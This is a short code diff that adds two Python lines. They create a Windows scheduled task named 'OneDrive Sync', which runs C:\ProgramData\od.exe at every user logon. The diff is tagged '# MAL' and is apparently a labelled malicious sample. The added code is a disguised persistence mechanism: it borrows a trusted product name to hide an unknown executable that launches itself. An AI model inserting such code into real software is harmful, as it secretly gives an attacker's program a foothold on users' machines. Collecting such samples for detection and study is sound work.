@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run('schtasks /create /sc onlogon /tn "OneDrive Sync" /tr "C:\\ProgramData\\od.exe"', shell=True)  # MAL
